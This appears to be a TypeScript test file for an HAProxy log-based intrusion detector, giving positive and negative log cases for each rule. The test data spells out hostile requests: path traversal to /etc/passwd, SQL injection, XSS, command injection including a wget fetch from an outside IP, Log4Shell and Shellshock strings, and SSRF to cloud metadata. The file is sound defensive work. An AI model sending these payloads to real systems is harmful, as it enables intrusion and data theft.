/**
 * Unit tables, one block per rule family: lines that must make a rule fire and lines that
 * must not, including percent-encoded (single and double), HAProxy-escaped (#XX) and
 * backslash payloads. Each case names the rule and the expected decision.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { http, judgeOne, T0, tcp, times } from './log-lines.js';

interface Case {
  readonly name: string;
  readonly rule: string;
  readonly lines: readonly string[];
  readonly fires: boolean;
}

const get = (uri: string, o: Parameters<typeof http>[0] = {}): string => http({ uri, status: 404, ...o });
const each = (uris: readonly string[], o: Parameters<typeof http>[0] = {}): string[] => uris.map((u, i) => get(u, { ms: T0 + i * 1000, ...o }));

const CASES: readonly Case[] = [
  // scan.paths
  { name: '25 distinct 404 paths', rule: 'scan.paths', fires: true, lines: times(25, (i) => get(`/w${i}`, { ms: T0 + i * 100 })) },
  { name: '25 404s on one path', rule: 'scan.paths', fires: false, lines: times(25, (i) => get('/missing', { ms: T0 + i * 100 })) },
  { name: '25 distinct missing static assets', rule: 'scan.paths', fires: false, lines: times(25, (i) => get(`/static/img/p${i}.png`, { ms: T0 + i * 100 })) },
  {
    name: '20 distinct 404s among 200 pages (10%)',
    rule: 'scan.paths',
    fires: false,
    lines: [...times(20, (i) => get(`/gone${i}`, { ms: T0 + i * 1000 })), ...times(180, (i) => http({ uri: `/p${i % 30}.html`, ms: T0 + i * 1000 }))],
  },
  { name: '20 distinct HAProxy denies (403 PR)', rule: 'scan.paths', fires: true, lines: times(20, (i) => http({ uri: `/admin/${i}`, status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', ms: T0 + i * 10 })) },
  // crawl.aggressive
  { name: '50 new pages in 5 s', rule: 'crawl.aggressive', fires: true, lines: times(50, (i) => http({ uri: `/products/item-${i}.html`, ms: T0 + i * 100 })) },
  { name: '50 new pages at one per 2 s', rule: 'crawl.aggressive', fires: false, lines: times(50, (i) => http({ uri: `/products/item-${i}.html`, ms: T0 + i * 2000 })) },
  {
    name: '50 new pages in 5 s, each with its stylesheet and script (a browser, or a NAT)',
    rule: 'crawl.aggressive',
    fires: false,
    lines: times(50, (i) => [http({ uri: `/products/item-${i}.html`, ms: T0 + i * 100 }), http({ uri: '/static/css/main.css', ms: T0 + i * 100 + 1 }), http({ uri: '/static/js/app.js', ms: T0 + i * 100 + 2 })]).flat(),
  },
  { name: '200 static assets in 5 s', rule: 'crawl.aggressive', fires: false, lines: times(200, (i) => http({ uri: `/static/img/p${i}.jpg`, ms: T0 + i * 25 })) },
  // probe.sensitive-files
  { name: '/.env and /.git/config', rule: 'probe.sensitive-files', fires: true, lines: each(['/.env', '/.git/config']) },
  { name: 'percent-encoded /%2eenv and /.git%2fconfig', rule: 'probe.sensitive-files', fires: true, lines: each(['/%2e%65nv', '/.git%2fconfig']) },
  { name: 'double-encoded /%252eenv and /%252eaws/credentials', rule: 'probe.sensitive-files', fires: true, lines: each(['/%252eenv', '/%252Eaws/credentials']) },
  { name: 'look-alikes /.environment.html, /.github-pages', rule: 'probe.sensitive-files', fires: false, lines: each(['/.environment.html', '/.github-pages/', '/blog/git-tips.html']) },
  { name: 'one sensitive file, many times', rule: 'probe.sensitive-files', fires: false, lines: times(10, (i) => get('/.env', { ms: T0 + i * 1000 })) },
  // probe.path-traversal
  { name: '../ and encoded ..%2f', rule: 'probe.path-traversal', fires: true, lines: each(['/download/../../etc/passwd', '/img/..%2f..%2f..%2fetc/hosts']) },
  { name: 'double-encoded %252e%252e%252f and backslashes', rule: 'probe.path-traversal', fires: true, lines: each(['/dl/%252e%252e%252f%252e%252e%252fwin.ini', '/download/..\\..\\..\\boot.ini']) },
  { name: 'traversal in the query string', rule: 'probe.path-traversal', fires: true, lines: each(['/download?file=../../../../etc/passwd', '/view?page=%2e%2e%2f%2e%2e%2fetc%2fshadow']) },
  { name: 'dots that are not traversal', rule: 'probe.path-traversal', fires: false, lines: each(['/docs/v1..v2.html', '/files/report...final.pdf', '/a.b.c/d']) },
  // probe.sqli
  { name: 'UNION SELECT and quote-or', rule: 'probe.sqli', fires: true, lines: each(['/api/items?id=1%20UNION%20ALL%20SELECT%20NULL,NULL', "/login?user=admin'+or+'1'='1"]) },
  { name: 'sqlmap time-based payloads', rule: 'probe.sqli', fires: true, lines: each(['/blog/?p=3%29%3BSELECT%20PG_SLEEP%285%29--', '/api/items?id=1%20WAITFOR%20DELAY%20%270%3A0%3A5%27--']) },
  { name: 'double-encoded union select', rule: 'probe.sqli', fires: true, lines: each(['/x?id=1%2520union%2520select%25201', '/x?id=1%2527%2520or%25201%253D1']) },
  { name: 'searches with SQL words', rule: 'probe.sqli', fires: false, lines: each(['/search?q=select+a+dress', '/search?q=union+station+hotel', '/search?q=order+by+price', "/search?q=o'brien"]) },
  // probe.xss
  { name: 'script tag and onerror, encoded', rule: 'probe.xss', fires: true, lines: each(['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', '/search?q=#22%3E%3Cimg+src=x+onerror=alert(1)%3E']) },
  { name: 'the same XSS URL reloaded', rule: 'probe.xss', fires: false, lines: times(8, (i) => get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', { ms: T0 + i * 1000 })) },
  { name: 'ordinary searches', rule: 'probe.xss', fires: false, lines: each(['/search?q=script+writing', '/search?q=image+gallery', '/search?q=body+lotion']) },
  // probe.cmd-injection
  { name: ';cat /etc/passwd and $(id)', rule: 'probe.cmd-injection', fires: true, lines: each(['/ping?host=1.1.1.1%3Bcat%20/etc/passwd', '/x?a=%24%28id%29']) },
  { name: 'log4shell in the query', rule: 'probe.cmd-injection', fires: true, lines: each(['/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D', '/?y=$%7Bjndi:dns://e.example/b%7D']) },
  { name: 'words that look like commands', rule: 'probe.cmd-injection', fires: false, lines: each(['/search?q=cat+food', '/search?q=identity+theft', '/products?sort=id']) },
  // probe.backdoor
  { name: 'webshell names', rule: 'probe.backdoor', fires: true, lines: each(['/shell.php']) },
  { name: 'shellfish is not a shell', rule: 'probe.backdoor', fires: false, lines: each(['/shellfish.html', '/blog/webinar.html']) },
  { name: 'an uploader at the root', rule: 'probe.backdoor', fires: true, lines: each(['/upload.php']) },
  { name: "WordPress's own media page (/wp-admin/upload.php) is not an uploader", rule: 'probe.backdoor', fires: false, lines: times(30, (i) => get('/wp-admin/upload.php', { status: 200, ms: T0 + i * 60000 })) },
  // probe.admin
  { name: 'admin interfaces', rule: 'probe.admin', fires: true, lines: each(['/phpmyadmin/', '/wp-admin/setup-config.php']) },
  { name: 'staff using their admin pages (200s: onlyErrors)', rule: 'probe.admin', fires: false, lines: each(['/admin/users', '/admin/orders', '/wp-admin/edit.php'], { status: 200 }) },
  { name: 'admin words elsewhere in the path', rule: 'probe.admin', fires: false, lines: each(['/blog/admin-tips.html', '/help/phpmyadmin-guide.html'.replace('phpmyadmin', 'php-my-ad')]) },
  // probe.cve
  { name: 'phpunit eval-stdin (CVE-2017-9841)', rule: 'probe.cve', fires: true, lines: each(['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php']) },
  { name: 'Boa formLogin, encoded', rule: 'probe.cve', fires: true, lines: each(['/boaform/admin/form%4Cogin']) },
  { name: 'ordinary pages', rule: 'probe.cve', fires: false, lines: each(['/products/', '/about.html', '/api/items?id=3']) },
  { name: 'Log4Shell in the User-Agent, as HAProxy escapes it', rule: 'probe.cve', fires: true, lines: [http({ uri: '/', ua: '$#7Bjndi:ldap://198.51.100.1:1389/a#7D' })] },
  { name: 'Log4Shell nested to dodge filters', rule: 'probe.cve', fires: true, lines: [http({ uri: '/', ua: '$#7B$#7B::-j#7D$#7B::-n#7Ddi:ldap://x/a#7D' })] },
  { name: 'Shellshock in the User-Agent', rule: 'probe.cve', fires: true, lines: [http({ uri: '/cgi-bin/status', ua: '() #7B :; #7D; /bin/bash -c #22id#22' })] },
  {
    name: 'browsers and tools with parentheses and dollars in the User-Agent',
    rule: 'probe.cve',
    fires: false,
    lines: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)', 'curl/8.4.0 ($HOME)', 'Go-http-client/1.1 ()'].map((ua) => http({ uri: '/', ua })),
  },
  // bruteforce.auth
  { name: '25 x 401 in 30 s', rule: 'bruteforce.auth', fires: true, lines: times(25, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 1200 })) },
  { name: '25 x 401 at one a minute', rule: 'bruteforce.auth', fires: false, lines: times(25, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 61000 })) },
  { name: '25 x 403 denied by HAProxy (policy, not auth)', rule: 'bruteforce.auth', fires: false, lines: times(25, (i) => http({ uri: '/admin', status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', timers: '0/-1/-1/-1/0', ms: T0 + i * 100 })) },
  { name: 'credential stuffing: 40 POSTs to /api/v1/auth/login answered 200 in 40 s', rule: 'bruteforce.auth', fires: true, lines: times(40, (i) => http({ request: 'POST /api/v1/auth/login HTTP/1.1', ms: T0 + i * 1000 })) },
  { name: '40 POSTs to /wp-login.php answered 200 in 40 s', rule: 'bruteforce.auth', fires: true, lines: times(40, (i) => http({ request: 'POST /wp-login.php HTTP/1.1', ms: T0 + i * 1000 })) },
  { name: '5 POSTs to /login and 40 POSTs to /api/cart', rule: 'bruteforce.auth', fires: false, lines: [...times(5, (i) => http({ request: 'POST /login HTTP/1.1', status: 302, ms: T0 + i * 1000 })), ...times(40, (i) => http({ request: 'POST /api/cart HTTP/1.1', status: 201, ms: T0 + i * 500 }))] },
  {
    name: 'an app whose token expired: 60 x 401 in 2 min among 200 x 200 (23 %)',
    rule: 'bruteforce.auth',
    fires: false,
    lines: [...times(60, (i) => http({ uri: '/api/v2/cart', status: 401, ms: T0 + i * 2000 })), ...times(200, (i) => http({ uri: '/api/v2/cart', status: 200, ms: T0 + 122000 + i * 3000 }))],
  },
  {
    name: 'basic-auth guessing: 60 x 401 in 2 min among 40 x 200 (60 %)',
    rule: 'bruteforce.auth',
    fires: true,
    lines: [...times(40, (i) => http({ uri: '/products/', status: 200, ms: T0 + i * 1000 })), ...times(60, (i) => http({ uri: '/admin/', status: 401, ms: T0 + 40000 + i * 2000 }))],
  },
  { name: 'slow guessing: 120 POSTs to /wp-login.php, one every 20 s', rule: 'bruteforce.auth', fires: true, lines: times(120, (i) => http({ request: 'POST /wp-login.php HTTP/1.1', ms: T0 + i * 20000 })) },
  {
    name: 'slow credential stuffing: form fetched for its token, then POSTed, 110 times in 55 min',
    rule: 'bruteforce.auth',
    fires: true,
    lines: times(220, (i) => http({ request: i % 2 === 0 ? 'GET /account/login HTTP/1.1' : 'POST /account/login HTTP/1.1', ms: T0 + i * 15000 })),
  },
  { name: 'a login monitor: one POST to /login a minute for 3 hours', rule: 'bruteforce.auth', fires: false, lines: times(180, (i) => http({ request: 'POST /login HTTP/1.1', status: 302, ms: T0 + i * 60000 })) },
  {
    name: 'an office behind one address: 150 logins in an hour among 900 page views',
    rule: 'bruteforce.auth',
    fires: false,
    lines: times(1050, (i) => http({ port: 30000 + i, request: i % 7 === 0 ? 'POST /login HTTP/1.1' : `GET /docs/${i % 300} HTTP/1.1`, status: i % 7 === 0 ? 302 : 200, ms: T0 + i * 3400 })),
  },
  { name: '25 x 403 from the application', rule: 'bruteforce.auth', fires: true, lines: times(25, (i) => http({ uri: '/wp-login.php', status: 403, ms: T0 + i * 100 })) },
  // flood.requests
  { name: '600 requests on 600 new connections in 6 s', rule: 'flood.requests', fires: true, lines: times(600, (i) => http({ port: 20000 + i, ms: T0 + i * 10 })) },
  { name: '300 new connections in 3 s', rule: 'flood.requests', fires: false, lines: times(300, (i) => http({ port: 20000 + i, ms: T0 + i * 10 })) },
  { name: '300 new connections in 3 s, half of them queued (Tw > 0)', rule: 'flood.requests', fires: true, lines: times(300, (i) => http({ port: 20000 + i, ms: T0 + i * 10, timers: i % 2 ? '0/250/0/1/251' : '0/0/0/1/1' })) },
  { name: '1500 keep-alive requests on 3 connections in 5 s', rule: 'flood.requests', fires: false, lines: times(1500, (i) => http({ uri: '/api/list?page=1', port: 30000 + (i % 3), ms: T0 + Math.floor(i * 3.3) })) },
  { name: '5000 keep-alive requests in 10 s', rule: 'flood.requests', fires: true, lines: times(5000, (i) => http({ port: 30000 + (i % 3), ms: T0 + i * 2 })) },
  { name: 'a monitor: a new connection every 3 s for 10 min', rule: 'flood.requests', fires: false, lines: times(200, (i) => http({ uri: '/health', port: 20000 + i, ms: T0 + i * 3000 })) },
  // slow.client
  { name: '12 request timeouts (408 cR)', rule: 'slow.client', fires: true, lines: times(12, (i) => http({ request: '<BADREQ>', status: 408, term: 'cR--', timers: '-1/-1/-1/-1/2000', port: 20000 + i, ms: T0 + i * 100 })) },
  { name: '12 partial requests abandoned after 1 s (CR)', rule: 'slow.client', fires: true, lines: times(12, (i) => http({ request: '<BADREQ>', term: 'CR--', timers: '-1/-1/-1/-1/1000', port: 20000 + i, ms: T0 + i * 100 })) },
  { name: '12 complete requests whose headers took 6 s (TR)', rule: 'slow.client', fires: true, lines: times(12, (i) => http({ timers: '6000/0/0/1/6001', port: 20000 + i, ms: T0 + i * 100 })) },
  { name: '12 requests with 800 ms headers (a slow mobile link)', rule: 'slow.client', fires: false, lines: times(12, (i) => http({ timers: '800/0/0/1/801', ms: T0 + i * 1000 })) },
  {
    name: '2 timeouts among 50 requests',
    rule: 'slow.client',
    fires: false,
    lines: [...times(2, (i) => http({ request: '<BADREQ>', status: 408, term: 'cR--', timers: '-1/-1/-1/-1/2000', ms: T0 + i })), ...times(48, (i) => http({ ms: T0 + i * 1000 }))],
  },
  { name: '12 aborted downloads (CD)', rule: 'slow.client', fires: false, lines: times(12, (i) => http({ term: 'CD--', ms: T0 + i * 1000 })) },
  { name: '12 slow reads (cD)', rule: 'slow.client', fires: true, lines: times(12, (i) => http({ term: 'cD--', port: 20000 + i, ms: T0 + i * 1000 })) },
  { name: '3 stalled downloads (cD) among 30 requests (a mobile user)', rule: 'slow.client', fires: false, lines: times(30, (i) => http({ term: i < 3 ? 'cD--' : '----', ms: T0 + i * 1000 })) },
  // proto.bad-requests
  { name: '15 connections closed without a request', rule: 'proto.bad-requests', fires: true, lines: times(15, (i) => http({ request: '<BADREQ>', port: 20000 + i, ms: T0 + i * 100 })) },
  { name: '15 empty TCP sessions closed by the client', rule: 'proto.bad-requests', fires: true, lines: times(15, (i) => tcp({ term: i % 2 ? 'CD' : 'CR', port: 20000 + i, ms: T0 + i * 100 })) },
  { name: '15 TCP sessions refused by a dead server (SC)', rule: 'proto.bad-requests', fires: false, lines: times(15, (i) => tcp({ term: 'SC', timers: '1/-1/2002', port: 20000 + i, ms: T0 + i * 100 })) },
  { name: 'a TCP health checker: an empty session every 2 s for 20 minutes', rule: 'proto.bad-requests', fires: false, lines: times(600, (i) => tcp({ term: i % 50 ? '--' : 'CD', port: 20000 + i, ms: T0 + i * 2000 })) },
  { name: 'empty TCP sessions at 3 a second for 11 minutes (faster than a checker)', rule: 'proto.bad-requests', fires: true, lines: times(2000, (i) => tcp({ port: 20000 + (i % 30000), ms: T0 + i * 333 })) },
  { name: 'a steady TCP client that also sent bad HTTP requests', rule: 'proto.bad-requests', fires: true, lines: [...times(600, (i) => tcp({ term: '--', port: 20000 + i, ms: T0 + i * 2000 })), ...times(12, (i) => http({ request: '<BADREQ>', port: 30000 + i, ms: T0 + i * 100 }))] },
  { name: '12 invalid HTTP versions', rule: 'proto.bad-requests', fires: true, lines: times(12, (i) => http({ request: `GET /x${i} HTTP/1.7`, ms: T0 + i * 100 })) },
  // proto.open-proxy
  { name: 'absolute-form HTTP/1.1 request', rule: 'proto.open-proxy', fires: true, lines: [http({ request: 'GET http://www.example.org/ HTTP/1.1' })] },
  { name: 'CONNECT', rule: 'proto.open-proxy', fires: true, lines: [http({ request: 'CONNECT mail.example.org:25 HTTP/1.1', status: 400 })] },
  { name: 'HTTP/2 requests are logged in absolute form', rule: 'proto.open-proxy', fires: false, lines: [http({ request: 'GET https://www.shop.test/ HTTP/2.0' })] },
  // ua.scanner
  { name: 'Nikto user agent', rule: 'ua.scanner', fires: true, lines: [http({ ua: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' })] },
  { name: 'sqlmap escaped by HAProxy (#23)', rule: 'ua.scanner', fires: true, lines: [http({ ua: 'sqlmap/1.7.2#23stable (https://sqlmap.org)' })] },
  { name: 'curl, ApacheBench, python-requests', rule: 'ua.scanner', fires: false, lines: [http({ ua: 'curl/8.4.0' }), http({ ua: 'ApacheBench/2.3' }), http({ ua: 'python-requests/2.31.0' })] },
  // proxy.denied
  { name: '6 denies among 10 requests', rule: 'proxy.denied', fires: true, lines: [...times(6, (i) => http({ uri: `/x${i}`, status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', ms: T0 + i })), ...times(4, (i) => http({ ms: T0 + i }))] },
  { name: '6 tarpits', rule: 'proxy.denied', fires: true, lines: times(6, (i) => http({ uri: `/x${i}.php`, status: 500, term: 'PT--', server: 'fe_web/<NOSRV>', timers: '-1/1000/-1/-1/1000', ms: T0 + i })) },
  { name: '1 deny among 100 requests', rule: 'proxy.denied', fires: false, lines: [http({ status: 403, term: 'PR--', server: 'fe_web/<NOSRV>' }), ...times(99, (i) => http({ ms: T0 + i * 1000 }))] },
];

for (const c of CASES) {
  test(`${c.rule}: ${c.fires ? 'fires on' : 'does not fire on'} ${c.name}`, () => {
    const j = judgeOne(c.lines);
    const d = j.byId.get(c.rule);
    assert.ok(d, `rule ${c.rule} was not evaluated`);
    assert.equal(d.fired, c.fires, `${c.rule}: ${d.why()}`);
  });
}

test('every rule id has a positive and a negative case in the tables', async () => {
  const { RULE_IDS } = await import('../../halog/detect/rules.js');
  for (const id of RULE_IDS) {
    assert.ok(CASES.some((c) => c.rule === id && c.fires), `${id}: no positive case`);
    assert.ok(CASES.some((c) => c.rule === id && !c.fires), `${id}: no negative case`);
  }
});

test('probe.cve: exploits in the User-Agent count with ua.scanner disabled, and not with probe.cve disabled', async () => {
  const { resolveRules } = await import('../../halog/detect/rules.js');
  const lines = [http({ uri: '/', ua: '$#7Bjndi:ldap://198.51.100.1:1389/a#7D' })];
  const withoutUa = judgeOne(lines, undefined, { rules: resolveRules({ rules: { 'ua.scanner': { enabled: false } } }) });
  assert.equal(withoutUa.byId.get('probe.cve')?.fired, true);
  const withoutCve = judgeOne(lines, undefined, { rules: resolveRules({ rules: { 'probe.cve': { enabled: false } } }) });
  assert.equal(withoutCve.byId.get('probe.cve'), undefined);
  assert.equal(withoutCve.verdict, 'clean');
});

test('probe.cve: one request each of the exploits botnets send every server, and none of their look-alikes', () => {
  const exploits = [
    'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x HTTP/1.1',
    'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1',
    'POST /ws/v1/cluster/apps/new-application HTTP/1.1',
    'GET /mifs/.;/services/LogService HTTP/1.1',
    'GET /tmUnblock.cgi HTTP/1.1',
    'GET /cgi-bin/mainfunction.cgi?action=login&keyPath=%27%0A/bin/sh${IFS}-c HTTP/1.1',
    'GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/x HTTP/1.1',
    'GET /developmentserver/metadatauploader HTTP/1.1',
    'POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
    'GET /index.php?lang=../../../../usr/local/lib/php/pearcmd&+config-create+/&/x+/tmp/a.php HTTP/1.1',
    'GET /?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php> HTTP/1.1',
    'GET /?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1',
    'GET /fetch?u=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F HTTP/1.1',
    'GET /api/v2/cmdb/system/admin HTTP/1.1',
    'GET /containers/json HTTP/1.1',
    'GET /s/1/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties HTTP/1.1',
  ];
  for (const request of exploits) {
    const d = judgeOne([http({ request, status: 404 })]).byId.get('probe.cve');
    assert.equal(d?.fired, true, request);
  }
  // Look-alikes, and what real applications send: a Docker UI, Telerik uploads, Liferay's JSON API, a developer's Xdebug trigger.
  const benign = [
    'GET /search?q=thinkphp+invoke+function HTTP/1.1',
    'GET /products/containers/ HTTP/1.1',
    'POST /api/v2/cmdb/assets HTTP/1.1',
    'GET /api/endpoints/1/docker/containers/json?all=1 HTTP/1.1',
    'POST /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1',
    'POST /api/jsonws/invoke HTTP/1.1',
    'GET /cart?XDEBUG_SESSION_START=phpstorm HTTP/1.1',
    'GET /cgi-bin/mainfunction.cgi HTTP/1.1',
  ];
  for (const request of benign) assert.equal(judgeOne([http({ request })]).byId.get('probe.cve')?.fired, false, request);
});

test('bruteforce.auth: with slowMinLoginPosts 0 slow guessing is not seen, and the explanation quotes the long window', async () => {
  const { resolveRules } = await import('../../halog/detect/rules.js');
  const lines = times(120, (i) => http({ request: 'POST /wp-login.php HTTP/1.1', ms: T0 + i * 20000 }));
  const on = judgeOne(lines).byId.get('bruteforce.auth');
  assert.equal(on?.fired, true);
  assert.match(on.why(), /at most 120 login POSTs in 3600s \(need >= 100\), 100% of HTTP requests/);
  const off = judgeOne(lines, undefined, { rules: resolveRules({ rules: { 'bruteforce.auth': { slowMinLoginPosts: 0 } } }) });
  assert.equal(off.byId.get('bruteforce.auth')?.fired, false);
});

test('proto.bad-requests: with monitorMinSpanSeconds 0 a steady TCP health checker counts as a probe again', async () => {
  const { resolveRules } = await import('../../halog/detect/rules.js');
  const lines = times(600, (i) => tcp({ term: '--', port: 20000 + i, ms: T0 + i * 2000 }));
  assert.equal(judgeOne(lines).byId.get('proto.bad-requests')?.fired, false);
  const off = judgeOne(lines, undefined, { rules: resolveRules({ rules: { 'proto.bad-requests': { monitorMinSpanSeconds: 0 } } }) });
  assert.equal(off.byId.get('proto.bad-requests')?.fired, true);
});

test('verdicts: a tool user agent alone does not flag; with a probe it is malicious', () => {
  const alone = judgeOne([http({ ua: 'sqlmap/1.7.2' })]);
  assert.equal(alone.verdict, 'clean');
  const withProbe = judgeOne(each(['/x?id=1%20union%20select%201', "/x?id=1'%20or%20'1'='1"], { ua: 'sqlmap/1.7.2' }));
  assert.deepEqual(withProbe.decisions.filter((x) => x.fired).map((x) => x.id).sort(), ['probe.sqli', 'ua.scanner']);
  assert.equal(withProbe.score, 10);
  assert.equal(withProbe.verdict, 'malicious');
});

test('verdicts: one stray 404 or one odd URL never flags', () => {
  for (const lines of [[get('/wp-login.php')], [get('/.env')], [get('/a/../../etc/passwd')], [get('/search?q=%3Cscript%3E')]]) {
    assert.equal(judgeOne(lines).verdict, 'clean', lines[0]);
  }
});

test('evidence: at most 3 log lines per rule, the first ones, verbatim', async () => {
  const { suspects } = await import('../../halog/detect/verdict.js');
  const { detect } = await import('./log-lines.js');
  const lines = times(30, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 100 }));
  const [s] = suspects(detect(lines));
  assert.ok(s);
  const r = s.rules.find((x) => x.id === 'bruteforce.auth');
  assert.ok(r);
  assert.equal(r.count, 30);
  assert.deepEqual(r.evidence, lines.slice(0, 3));
});

test('merge: two parts snapshotted, structured-cloned and merged give the verdicts of one pass', async () => {
  const { Detector } = await import('../../halog/detect/detector.js');
  const { suspects } = await import('../../halog/detect/verdict.js');
  const { detect } = await import('./log-lines.js');
  // 24 auth failures within 60 s, a scan of 30 paths and 600 new connections in 6 s.
  const lines = [
    ...times(24, (i) => http({ ip: '192.0.2.1', port: 40000, uri: '/login', status: 401, ms: T0 + i * 2000 })),
    ...times(30, (i) => get(`/w${i}`, { ip: '192.0.2.2', ms: T0 + i * 100 })),
    ...times(600, (i) => http({ ip: '192.0.2.3', port: 10000 + i, ms: T0 + i * 10 })),
  ].sort((a, b) => (a.slice(a.indexOf('[')) < b.slice(b.indexOf('[')) ? -1 : 1)); // by accept date
  const whole = suspects(detect(lines));
  // Every other line: each part holds half of every attack (counts merge whatever the order).
  const a = detect(lines.filter((_, i) => i % 2 === 0));
  const b = detect(lines.filter((_, i) => i % 2 === 1));
  const merged = new Detector();
  merged.merge(structuredClone(a.snapshot()));
  merged.merge(structuredClone(b.snapshot()));
  const parts = suspects(merged);
  assert.deepEqual(parts.map((s) => [s.client, s.verdict, s.rules.map((r) => r.id)]), whole.map((s) => [s.client, s.verdict, s.rules.map((r) => r.id)]));
  assert.equal(parts.length, 3);
  // Each part alone sees too little of the brute force and of the flood.
  for (const part of [a, b]) assert.deepEqual(suspects(part).map((s) => s.client), []);
  assert.equal(merged.stats.lines, lines.length);
  assert.equal(merged.stats.http, lines.length);
});

test('memory: clean clients idle for evictIdleSeconds are dropped, flagged ones are kept', async () => {
  const { detect } = await import('./log-lines.js');
  const { suspects } = await import('../../halog/detect/verdict.js');
  const H = 3600_000;
  // A prober in the first minute, then 2000 one-request visitors spread over 3 hours.
  const lines = [
    ...each(['/.env', '/.git/config', '/wp-config.php.bak', '/.aws/credentials'], { ip: '192.0.2.66' }),
    ...times(2000, (i) => http({ ip: `10.${(i >> 8) & 255}.${i & 255}.1`, uri: '/', ms: T0 + 60_000 + Math.floor((i * 3 * H) / 2000) })),
  ];
  const d = detect(lines);
  assert.ok(d.stats.evicted > 1000, `${d.stats.evicted} evicted`);
  assert.ok(d.clients.size < 1000, `${d.clients.size} states kept`);
  assert.deepEqual(suspects(d).map((s) => [s.client, s.rules.map((r) => r.id)]), [['192.0.2.66', ['probe.sensitive-files']]]);
  const { resolveRules } = await import('../../halog/detect/rules.js');
  const keepAll = detect(lines, { rules: resolveRules({ evictIdleSeconds: 0 }) });
  assert.equal(keepAll.stats.evicted, 0);
  assert.equal(keepAll.clients.size, 2001);
});

test('memory: a client is not evicted before the longest window of the rules, whatever evictIdleSeconds says', async () => {
  const { detect } = await import('./log-lines.js');
  const { resolveRules } = await import('../../halog/detect/rules.js');
  const { longestWindowSeconds } = await import('../../halog/detect/detector.js');
  const { buildFamilies } = await import('../../halog/detect/families/index.js');
  // A slow guesser with a 2-hour window: 60 login POSTs, 75 minutes of silence, 60 more; with a
  // 1-hour eviction and nobody else's lines moving the clock, it would start over mid-window.
  const guesser = [
    ...times(60, (i) => http({ ip: '198.51.100.9', request: 'POST /wp-login.php HTTP/1.1', ms: T0 + i * 20_000 })),
    ...times(60, (i) => http({ ip: '198.51.100.9', request: 'POST /wp-login.php HTTP/1.1', ms: T0 + 20 * 60_000 + 75 * 60_000 + i * 20_000 })),
  ];
  // Other clients' lines during the pause drive the clock (and the eviction sweeps) forward.
  const others = times(400, (i) => http({ ip: `10.7.${(i >> 8) & 255}.${i & 255}`, uri: '/', ms: T0 + 20 * 60_000 + i * 11_250 }));
  const lines = [...guesser, ...others].sort((a, b) => (a.slice(a.indexOf(' [')) < b.slice(b.indexOf(' [')) ? -1 : 1));
  const rules = resolveRules({ evictIdleSeconds: 3600, rules: { 'bruteforce.auth': { slowWindowSeconds: 7200, slowMinLoginPosts: 100 } } });
  assert.equal(longestWindowSeconds(buildFamilies(rules)), 7200);
  const flagged = (await import('../../halog/detect/verdict.js')).suspects(detect(lines, { rules }));
  assert.deepEqual(flagged.map((x) => [x.client, x.rules.map((r) => r.id)]), [['198.51.100.9', ['bruteforce.auth']]]);
});

test('memory: evicted clients that come back start over, and never share a reused slot', async () => {
  const { detect } = await import('./log-lines.js');
  const H = 3600_000;
  // 300 one-request clients (IPv4 and IPv6), evicted after an hour idle; then 300 newcomers
  // take their freed slots, and every first client comes back twice. Each must be found under
  // its own key (the address caches must not point at a slot now held by someone else).
  const first = times(300, (i) => (i % 3 === 0 ? `2001:db8::${i.toString(16)}` : `10.0.${i >> 8}.${i & 255}`));
  const later = times(300, (i) => `10.9.${i >> 8}.${i & 255}`);
  const lines = [
    ...first.map((ip, i) => http({ ip, uri: '/', ms: T0 + i })),
    ...later.map((ip, i) => http({ ip, uri: '/', ms: T0 + 2 * H + i })),
    ...first.map((ip, i) => http({ ip, uri: '/', ms: T0 + 2 * H + 1000 + i })),
    ...first.map((ip, i) => http({ ip, uri: '/', ms: T0 + 2 * H + 2000 + i })),
  ];
  // Every client counted by every rule (no busy gates), so that each has a page and a port.
  const d = detect(lines, { busyGates: false });
  assert.equal(d.stats.evicted, 300);
  const clients = d.clients;
  assert.equal(clients.size, 600);
  for (const ip of first) assert.equal(clients.get(ip)?.total, 2, ip);
  for (const ip of later) assert.equal(clients.get(ip)?.total, 1, ip);
  // The evicted clients' pages and ports went with them (one page, one port per client kept).
  assert.equal(d.table.pages.size, 600);
  assert.equal(d.table.ports.size, 600);
});

test('score: every family scores a client as its fired decisions add up, flood clients around its limits included', async () => {
  const { detect } = await import('./log-lines.js');
  const { resolveRules } = await import('../../halog/detect/rules.js');
  // Flood clients at and around the limits (250/500 new connections, 2500/5000 requests in
  // 10 s; halved when a tenth of the requests queued), with and without queueing, in one log
  // with the table cases; then the same with queuedFactor above 1 (limits raised, never lowered).
  const flood = (ip: string, n: number, newConns: boolean, queued: boolean, spanMs: number): string[] =>
    times(n, (i) => http({ ip, port: newConns ? 1024 + (i % 60000) : 40000 + (i % 4), timers: queued && i % 5 === 0 ? '0/3/0/1/4' : '0/0/0/1/1', ms: T0 + Math.floor((i * spanMs) / n) }));
  const lines = [
    ...CASES.flatMap((c, k) => c.lines.map((l) => l.replace('192.0.2.10', `10.1.${k >> 8}.${k & 255}`))),
    ...flood('10.2.0.1', 249, true, true, 5000),
    ...flood('10.2.0.2', 260, true, true, 5000),
    ...flood('10.2.0.3', 499, true, false, 5000),
    ...flood('10.2.0.4', 520, true, false, 9000),
